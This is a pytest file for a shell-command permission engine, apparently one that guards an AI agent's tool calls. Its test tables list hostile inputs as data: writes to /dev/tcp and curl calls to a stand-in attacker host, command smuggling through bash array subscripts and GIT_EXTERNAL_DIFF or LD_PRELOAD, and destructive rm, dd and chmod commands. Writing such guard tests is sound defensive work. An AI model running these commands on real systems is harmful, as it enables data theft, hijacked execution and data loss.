"""Law 3 over whole calls: where a word is not known, only what it can become makes a restriction ask, and says so."""

from collections.abc import Sequence
from pathlib import Path

import pytest

from permitry.core.decision import Verdict
from permitry.core.policy import AuthorizationPolicy
from tests.tables import for_each
from tests.whole_calls import PUSH, all_but, decide, policy_of

ALLOW, CONFIRM, BLOCK = Verdict.ALLOW, Verdict.CONFIRM, Verdict.BLOCK
PATHS = """
[[rule]]
id = "no-delete"
effect = "block"
when.path = "~/**"
when.access = "delete"

[[rule]]
id = "no-write"
effect = "block"
when.path = "/etc/**"
when.access = "write"

[[rule]]
id = "no-host"
effect = "block"
when.host = "evil.example"
"""


@pytest.fixture(scope="module")
def push(tmp_path_factory: pytest.TempPathFactory) -> AuthorizationPolicy:
    """Return a policy that allows all but pushing."""
    return all_but(tmp_path_factory.mktemp("push"), PUSH)


@pytest.fixture(scope="module")
def paths(tmp_path_factory: pytest.TempPathFactory) -> AuthorizationPolicy:
    """Return a policy that allows all but some paths and a host."""
    return all_but(tmp_path_factory.mktemp("paths"), PATHS)


def _listed(texts: str) -> Sequence[str]:
    return [text.replace("␤", "\n") for text in texts.strip().splitlines()]


OPERANDS = r"""
ls $x
ls -la "$HOME"
echo $x push
cp $a "$b"
ls | xargs rm
find . -name '*.jpg' -print0 | while IFS= read -r -d '' f; do wc "$f"; done
cargo build -j$(nproc)
foo "$(find src -name a)"
cat $x | grep -c "$y" | head
mkdir -p "$d" && touch $d/a; echo $?
rm -f ${x} '$y' 2>/dev/null || true
for f in *.md; do wc "$f"; done
tee $x < a > b
cat "$(git rev-parse HEAD)"
sudo cp $a $b
x=$(date); echo "$x"
name=${x:-y}; echo $name
[ "$x" = push ] && ls
[[ $x == push ]] && ls
git log "$x"
case $x in a) ls;; b) rm y;; esac
cat <<E > f␤$x␤E
foo "a $x"
find "$a" "$b" -type f
PATH=$x ls
export X=$x; ls
"""

# Each of these, or a near relative, can be made to run a command by the value of a variable, or by what is read.
NOT_FOLLOWED = r"""
sudo GIT_SSH_COMMAND="$x" git fetch
env "PATH=$x" ls
strace -o "$x" ls
i='a[$(git push)]'; let i
i='a[$(git push)]'; [[ i -eq 1 ]]
i='a[$(git push)]'; a[i]=1
i='a[$(git push)]'; a=([i]=1)
i='a[$(git push)]'; [ -v 'a[i]' ]
i='a[$(git push)]'; printf -v 'a[i]' x
i='a[$(git push)]'; printf "-v$i" x
i='a[$(git push)]'; declare 'a[i]=1'
i='a[$(git push)]'; declare -n r='a[i]'; r=1
x='-v a[$({git,push})]'; [ $x ]
x=status; echo push | xargs -I "$x" git status
declare -x GIT_EXTERNAL_DIFF; for GIT_EXTERNAL_DIFF in 'git push'; do git diff; done
: ${GIT_EXTERNAL_DIFF:='git push'}; git diff
printf -v GIT_EXTERNAL_DIFF 'git push'; git diff $x
for PATH in b; do git status $x; done
f() { ls "$1"; }; ls | f x
"""


@for_each("text", _listed(NOT_FOLLOWED))
def test_what_is_more_than_operands_is_not_followed(push: AuthorizationPolicy, text: str) -> None:
    """It asks, however harmless it looks; or it is seen to push."""
    assert decide(push, text).verdict is not ALLOW


@for_each("text", _listed(OPERANDS))
def test_an_operand_becomes_no_command(push: AuthorizationPolicy, text: str) -> None:
    """Where all else is a simple command of a program that runs none."""
    decision = decide(push, text)
    assert decision.verdict is ALLOW, decision.reason


COMMANDS = r"""
$x push
"$x" push
$(echo git) push
`echo git` push
git $x
git "$x"
git $x push
sudo $x
sudo -u $u ls
timeout $t ls
env $x ls
xargs $x
xargs -n $n rm
ls | xargs sh -c "$x"
xargs git < f
bash -c "$x"
eval "ls $x"
echo $x | sh
bash $x
. $x
trap "$x" EXIT
exec $x
alias g=git; g $x
foo $x
foo "$x" a
python x.py "$x"
ls $x | xargs tar cf a
find $dir -name x
find "$a" git push \;
find . -exec $x \;
find . -exec "$x" git \;
sed "s/a/$x/" f
awk "{print $x}" f
git grep -O$x y
git -c "$x" log
if [ -f x ]; then $y; fi
while read x; do $x push; done
for f in git; do $f push; done
f() { "$@"; }; f git push
f() { git "$@"; }; f push
ls() { echo "$1"; }; ls x
f() { f | f & }; f
BASH_ENV=$x ls
GIT_PAGER=$x git log
export $x; ls
[[ $x -eq 1 ]]
echo $((x+1))
echo ${a[$i]}
echo ${!x}
a[$i]=1; ls
printf -v "$x" y
cat <($x)
cat <<E␤$($x)␤E
ls ~$x/a
ls ~bob/$x
ls $x; $y
nohup $x &
ssh $h ls
docker run $i ls
watch "$x"
vim -c "$x"
parallel $x ::: a
"""


@for_each("text", _listed(COMMANDS))
def test_what_may_become_a_command_asks(push: AuthorizationPolicy, text: str) -> None:
    """A program that is not known, and what a program may run of its words."""
    decision = decide(push, text)
    assert (decision.verdict, decision.rule_id) == (CONFIRM, "no-push")
    assert decision.reason.startswith("may run `git push *`")


@for_each(
    "text",
    [
        "ls $x; git push", "if true; then git push; fi", "x=$(git push)", "timeout $t git push", "cat <(git push)",
        "f() { git push; }; f", "echo ${x:-$(git push)}", "git push $x", "cat <<E\n$(git push)\nE", "find $d; git push",
    ],
)  # fmt: skip
def test_a_command_that_is_written_out_is_certain_among_open_words(push: AuthorizationPolicy, text: str) -> None:
    """Whatever else is not known."""
    assert decide(push, text).verdict is BLOCK


@for_each(
    ("text", "verdict", "rule"),
    [
        ("ls -la $HOME", ALLOW, None), ("cat $x", ALLOW, None), ('grep -r a "$d"', ALLOW, None),
        ("for f in *; do cat $f; done", ALLOW, None), ("ln -s / r; echo $y; touch r/etc/passwd", CONFIRM, None),
        ("mkdir d; ln -s ../.. d/r; echo $y; touch d/r/etc/passwd", CONFIRM, None),
        ("cp -a d/r .; unknown $y; touch r/passwd", CONFIRM, None),
        ("echo $x > f", ALLOW, None), ("echo $x $HOST", ALLOW, None),
        ("rm -rf $H", CONFIRM, "no-delete"), ('mv "$x" y', CONFIRM, "no-delete"), ("rm $(ls)", CONFIRM, "no-delete"),
        ("for f in *; do rm $f; done", CONFIRM, "no-delete"), ("find $x -delete", CONFIRM, "no-delete"),
        ("cd $x; rm -r a", CONFIRM, None), ("while true; do cd ..; touch a; done", CONFIRM, "no-delete"),
        ("tee $x", CONFIRM, "no-write"), ("echo a > $x", CONFIRM, "no-write"),
        ('echo a >> "$x/y"', CONFIRM, "no-write"),
        ("cp a $x", CONFIRM, "no-write"), ("{ echo $y; } > `f`", CONFIRM, "no-write"),
        ("touch $x", CONFIRM, "no-write"),
        ("curl $x", CONFIRM, None), ("cat <<E > $x\n$y\nE", CONFIRM, "no-write"),
        ("if true; then rm ~/x; fi", BLOCK, "no-delete"), ("ls $x; rm ~/y", BLOCK, "no-delete"),
        ("echo $x > /etc/y", BLOCK, "no-write"),
        ("for f in a; do tee /etc/$f < /etc/x > /etc/z; done", BLOCK, "no-write"),
        ("curl https://evil.example; ls $x", BLOCK, "no-host"),
        ("echo $x > /dev/tcp/evil.example/80", BLOCK, "no-host"), ("echo a > /dev/tcp/$h/80", CONFIRM, "no-host"),
        ("cat < /dev/tcp/a$h/80", CONFIRM, "no-host"), ('echo a > "/dev/$x/evil.example/80"', CONFIRM, "no-write"),
        ("cat < $x", CONFIRM, "no-host"), ("echo a > /dev/udp/localhost/$port", ALLOW, None),
        ("cat < ./$x", ALLOW, None),
    ],
)  # fmt: skip
def test_an_open_path_is_meant_by_what_happens_to_it(
    paths: AuthorizationPolicy, text: str, verdict: Verdict, rule: str | None
) -> None:
    """A rule about deleting has nothing to do with what is only read."""
    decision = decide(paths, text)
    assert (decision.verdict, decision.rule_id if rule else None) == (verdict, rule), decision.reason


@for_each(("text", "reason"))
def test_the_reason_says_last_what_is_not_known(
    push: AuthorizationPolicy, paths: AuthorizationPolicy, text: str, reason: str
) -> None:
    """And before that what the call would do, if that is what a rule without a reason is about."""
    assert decide(push if "git push" in reason else paths, text).reason == reason


@for_each(("text", "unknown"))
def test_what_is_not_in_the_call_is_named_by_what_reads_it(
    push: AuthorizationPolicy, paths: AuthorizationPolicy, text: str, unknown: str
) -> None:
    """Nothing is quoted that the author of the call did not write."""
    reasons = [decide(policy, text).reason for policy in (push, paths)]
    assert any(reason.endswith(f"({unknown})") for reason in reasons), reasons


@for_each(
    ("text", "rules"),
    [
        ("rm -rf $H", {"ask-delete-folder"}), ("docker run --rm alpine rm -rf /", {"block-delete-root"}),
        ("ls -la $H", {"ask-credentials"}), ("cat $f", {"ask-credentials"}),
        ("git push $x", {"ask-force-push"}),
        ("find $d -name x", {"ask-find-delete"}), ("dd if=a of=$x", {"block-format-disk"}),
        ("chmod -R 777 $x", {"block-change-root-access"}), ("rm .p*/rules.toml", {"protect-policy-files"}),
        ("git reset $x", {"ask-discard-work"}), ("ssh h rm -rf '~'", {None, "block-delete-home"}),
    ],
)  # fmt: skip
def test_the_most_likely_rule_is_named(text: str, rules: set[str | None]) -> None:
    """Of those that could apply: what a program is called counts more than a path that no one knows."""
    base = policy_of("permitry:base")
    assert decide(base, text).rule_id in rules


@for_each(
    ("text", "reason"),
    [
        ("pytest $x", "`$x` is not known before it runs, and `pytest` may run it"),
        ("jq . $x", "`$x` is not known before it runs"),
    ],
)
def test_what_looks_like_nothing_names_the_most_general_rule(text: str, reason: str) -> None:
    """As an example of what could be, and with the word that is not known."""
    assert decide(policy_of("permitry:coding-agent"), text).reason.endswith(f", for example ({reason})")


def test_a_folder_that_is_not_known_is_only_gone_to() -> None:
    """What is done there may be restricted; to change to it changes and reads nothing."""
    base = policy_of("permitry:base")
    assert decide(base, 'cd "$D"').verdict is ALLOW
    assert decide(base, "cd $D && rm -rf x").verdict is CONFIRM


# Variables -----------------------------------------------------------------------------------------------------------


@for_each(
    ("pattern", "text", "verdict"),
    [
        ("ls *", "A=b ls x", ALLOW), ("ls *", "PATH=. ls x", CONFIRM), ("ls *", "PATH=.; ls x", CONFIRM),
        ("*", "export LD_PRELOAD=x; ls", CONFIRM), ("*", "bash -c 'PATH=.; ls'", CONFIRM),
        ("*", "env PATH=. ls", CONFIRM),
        ("PYTHONPATH=src pytest *", "PYTHONPATH=src pytest a", ALLOW),
        ("PYTHONPATH=* pytest *", "PYTHONPATH=a pytest", ALLOW),
        ("PYTHONPATH=src pytest *", "PYTHONPATH=. pytest a", CONFIRM),
        ("PYTHONPATH=src pytest *", "pytest a", CONFIRM),
        ("PYTHONPATH=src pytest *", "PATH=. PYTHONPATH=src pytest", CONFIRM),
        ("* pytest", "PYTHONPATH=src pytest", CONFIRM),
        ("echo *", "echo $x $(echo y)", ALLOW), ("echo *", "echo $(rm y)", CONFIRM), ("cp a *", "cp $x b", CONFIRM),
        ("cp a *", "cp a $x", ALLOW), ("find *", "find $x", CONFIRM), ("echo *", "echo a > $x", CONFIRM),
        ("rm *", "find . -exec rm {} +", CONFIRM), ("*", "$x ls", CONFIRM), ("*", "x=$(ls) ls", ALLOW),
    ],
)  # fmt: skip
def test_a_permission_covers_what_is_certain(tmp_path: Path, pattern: str, text: str, verdict: Verdict) -> None:
    """Its star covers open words, its literal words do not; a variable that changes what runs must be named."""
    file = tmp_path / "rules.toml"
    rule = f'schema = 1\n[[rule]]\nid = "a"\neffect = "allow"\nwhen.command = "{pattern}"\n'
    file.write_text(rule, encoding="utf-8")
    assert decide(policy_of(file), text).verdict is verdict


@for_each("text", ["HOME=/etc; touch ~/a", "export HOME=/etc; touch ~/a",
        "HOME=/etc bash -c 'touch ~/a'",
                                  "env HOME=/etc sh -c 'touch ~/a'", "CDPATH=/; cd etc && touch a",
        "read HOME; touch ~/a",
                                  "HOME=/etc cd && touch a", "touch $HOMES/a"])  # fmt: skip
def test_a_path_that_a_variable_moves_is_not_certain(paths: AuthorizationPolicy, text: str) -> None:
    """The home folder, and where `cd` leads."""
    assert decide(paths, text).verdict is not ALLOW
